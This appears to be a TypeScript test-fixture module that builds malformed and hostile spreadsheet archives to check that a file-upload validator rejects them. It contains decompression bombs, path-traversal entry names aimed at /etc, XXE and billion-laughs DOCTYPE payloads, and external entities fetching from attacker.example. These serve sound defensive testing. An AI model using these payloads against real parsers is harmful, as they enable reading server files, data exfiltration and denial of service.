import { deflateRawSync } from 'node:zlib';
import type { HostileKind, Random } from './hostile-kind.ts';
import { rejectedFile } from './hostile-kind.ts';
import { toCells, goodLines, headers } from './lines.ts';
import type { ZipPart } from './workbook.ts';
import { sheetXml, stringsXml, textRows, workbookParts, buildZip } from './workbook.ts';

const rows = textRows([headers, ...goodLines(5).map(toCells)]);
const goodParts = () =>
  workbookParts({ sheets: [{ name: 'Returns', xml: sheetXml(rows) }], strings: stringsXml(['x']) });

const partNames = [
  '[Content_Types].xml',
  '_rels/.rels',
  'xl/workbook.xml',
  'xl/_rels/workbook.xml.rels',
  'xl/styles.xml',
  'xl/sharedStrings.xml',
  'xl/worksheets/sheet1.xml',
] as const;

const changeParts = (name: string, change: (part: ZipPart) => ZipPart) =>
  goodParts().map((part) => (part.name === name ? change(part) : part));

/** Defines archives in which a random part has a wrong field. */
const withWrongField = (
  name: string,
  codes: Parameters<typeof rejectedFile>[1],
  override: (random: Random, part: ZipPart) => Partial<ZipPart>,
): HostileKind =>
  rejectedFile(name, codes, (random) =>
    buildZip(changeParts(random.oneOf(partNames), (part) => ({ ...part, ...override(random, part) }))),
  );

/** 64 MB that compress to 64 KB. */
const bombPacked = deflateRawSync(Buffer.alloc(64 * 1024 * 1024, 0x20), { level: 9 });
const bombSize = 64 * 1024 * 1024;

const withContent = (name: string, change: (text: string) => string) =>
  buildZip(changeParts(name, (part) => ({ ...part, content: change(String(part.content)) })));

const afterHead = (declaration: string) => (text: string) => text.replace(/(<\?xml[^>]*\?>\s*)/, `$1${declaration}`);

const doctypes = (random: Random) =>
  random.oneOf([
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
  ]);

/** Archives with wrong fields, decompression bombs, hidden content or external references. */
export const hostileArchives: readonly HostileKind[] = [
  withWrongField('a bomb with its true size', 'FileTooLarge', () => ({ packed: bombPacked, size: bombSize })),
  withWrongField('a bomb with a small declared size', 'FileDamaged', (random) => ({
    packed: bombPacked,
    size: 1 + random.below(100_000),
  })),
  rejectedFile('bombs in unused parts', 'FileTooLarge', (random) =>
    buildZip([
      ...goodParts(),
      ...Array.from({ length: 2 + random.below(5) }, (_, index) => ({
        name: `xl/media/image${index}.png`,
        content: '',
        packed: bombPacked,
        size: bombSize / 2,
      })),
    ]),
  ),
  withWrongField('a slightly too large declared size', 'FileDamaged', (random, part) => ({
    size: part.content.length + 1000 + random.below(1000),
  })),
  withWrongField('a wrong checksum', 'FileDamaged', (random) => ({ sum: random.below(2 ** 31) })),
  withWrongField('compressed bytes beyond the end', 'FileDamaged', (random) => ({
    packedSize: 10_000_000 + random.below(1_000_000_000),
  })),
  withWrongField('an unsupported compression method', 'FileDamaged', (random) => ({
    method: random.oneOf([1, 6, 9, 12, 14, 93, 99]),
  })),
  rejectedFile('thousands of parts', 'FileTooLarge', (random) =>
    buildZip([
      ...goodParts(),
      ...Array.from({ length: 400 + random.below(2000) }, (_, index) => ({ name: `xl/x${index}.xml`, content: '' })),
    ]),
  ),
  rejectedFile('a too large entry count', ['FileDamaged', 'FileTooLarge'], (random) =>
    buildZip(goodParts(), { entries: 8 + random.below(60_000) }),
  ),
  rejectedFile('a duplicate part', 'FileDamaged', (random) => {
    const name = random.oneOf(partNames);
    return buildZip([...goodParts(), { name: random.oneOf([name, name.toUpperCase()]), content: '<a/>' }]);
  }),
  rejectedFile('a path outside the archive', 'FileDamaged', (random) =>
    buildZip([
      ...goodParts(),
      {
        name: random.oneOf(['../../etc/cron.d/x', '/etc/passwd', 'xl/../../x', 'C:/x', String.raw`xl\..\..\x`]),
        content: 'x',
      },
    ]),
  ),
  rejectedFile('a document type', 'FileDamaged', (random) =>
    withContent(random.oneOf(partNames), afterHead(doctypes(random))),
  ),
  rejectedFile('an undeclared entity', 'FileDamaged', (random) =>
    withContent(random.oneOf(partNames), (text) => text.replace(/<\/\w+>\s*$/, (end) => `&xxe;${end}`)),
  ),
  withWrongField('a part in UTF-16, with a document type', 'FileDamaged', (random, part) => ({
    content: Buffer.from(`\uFEFF${afterHead(doctypes(random))(String(part.content))}`, 'utf16le'),
  })),
  rejectedFile('macros', 'FileWithMacros', (random) =>
    random.oneOf([
      buildZip([...goodParts(), { name: 'xl/vbaProject.bin', content: random.bytes(500) }]),
      buildZip([...goodParts(), { name: 'XL/VBAPROJECT.BIN', content: random.bytes(500) }]),
      buildZip([...goodParts(), { name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }]),
      withContent('[Content_Types].xml', (text) =>
        text.replace(
          '</Types>',
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
        ),
      ),
    ]),
  ),
  withWrongField('an encrypted part', 'FilePasswordProtected', () => ({ flags: 1 })),
  rejectedFile('an archive that is not a workbook', 'FileWrongType', (random) =>
    buildZip(
      random.oneOf<ZipPart[]>([
        [
          { name: '[Content_Types].xml', content: '<Types/>' },
          {
            name: '_rels/.rels',
            content:
              '<Relationships><Relationship Id="1" Type="x/officeDocument" Target="word/document.xml"/></Relationships>',
          },
          { name: 'word/document.xml', content: '<w:document xmlns:w="w"/>' },
        ],
        [{ name: 'return.csv', content: headers.join(';') }],
        [],
      ]),
    ),
  ),
  rejectedFile('a missing sheet part', 'FileDamaged', () =>
    buildZip(goodParts().filter(({ name }) => name !== 'xl/worksheets/sheet1.xml')),
  ),
];
